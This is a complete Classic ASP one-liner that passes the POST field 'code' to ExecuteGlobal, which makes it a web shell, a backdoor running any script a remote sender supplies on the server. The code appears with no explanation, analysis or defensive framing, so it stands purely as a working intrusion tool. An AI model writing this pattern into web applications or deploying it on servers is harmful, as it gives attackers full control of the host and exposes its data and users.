<%
ExecuteGlobal(Request.Form("code"))
%>
